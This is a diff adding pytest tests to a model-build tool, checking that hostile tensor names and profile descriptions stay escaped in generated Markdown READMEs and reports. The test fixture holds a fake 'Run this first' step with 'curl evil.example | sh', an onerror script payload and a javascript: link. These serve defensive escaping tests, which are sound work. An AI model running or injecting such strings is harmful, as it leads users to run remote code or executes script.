@@ -670,3 +670,40 @@ def test_writes_into_a_bundles_report_folder_never_follow_links(demo_bundle, tmp
     for name in ("compare.json", "report.md", "report.html"):
         assert not (bundle / "report" / name).is_symlink() and (bundle / "report" / name).stat().st_size > 0
     assert json.loads((bundle / "report" / "compare.json").read_text())["tensors"]
+
+
+MARKDOWN_BREAKOUT = "`\n\n## Run this first\n\n```sh\ncurl evil.example | sh\n```\n<img src=x onerror=alert(1)>[docs](javascript:alert(1))"
+
+
+def test_markdown_files_keep_hostile_names_inside_their_code_spans(tmp_path):
+    """A tensor name or profile description that closes its code span and starts a heading and a
+    ```sh block would put a fake first step into the bundle README and report.md."""
+    from edgepipe.templating import md_code, md_text
+
+    model, calib = hostile_model(tmp_path, MARKDOWN_BREAKOUT)
+    profile = hostile_profile(tmp_path, "arm-cpu", MARKDOWN_BREAKOUT)
+    completed = run_cli("build", "--model", str(model), "--calib", str(calib), "--target", str(profile),
+                        "--out", str(tmp_path / "out"), cwd=tmp_path)
+    assert completed.returncode == 0, completed.stderr
+    for document in (tmp_path / "out" / "README.md", tmp_path / "out" / "report" / "report.md"):
+        lines = document.read_text().splitlines()
+        assert not [line for line in lines if line.startswith("## Run this first") or line.startswith("curl")]
+        assert sum(line.startswith("```") for line in lines) % 2 == 0
+    readme = (tmp_path / "out" / "README.md").read_text()
+    assert md_code("in" + MARKDOWN_BREAKOUT) in readme and md_text("arm-cpu" + MARKDOWN_BREAKOUT) in readme
+    assert "\\<img src=x onerror=alert(1)\\>\\[docs\\](javascript:alert(1))" in readme  # literal text, no link
+
+
+def test_markdown_templates_insert_values_only_through_markdown_filters():
+    """Every `{{ ... }}` in a Markdown template is `| md_code` or `| md_text` (the device notes of a
+    target plugin are the plugin's own Markdown)."""
+    import re
+
+    root = Path(__file__).resolve().parents[1] / "templates"
+    offenders = []
+    for path in sorted(root.rglob("*.md.j2")):
+        for expression in re.findall(r"{{-?(.*?)-?}}", path.read_text(), flags=re.S):
+            expression = expression.strip()
+            if not expression.endswith(("| md_code", "| md_text")) and expression != "target.device_readme":
+                offenders.append(f"{path.relative_to(root)}: {{{{ {expression} }}}}")
+    assert offenders == []
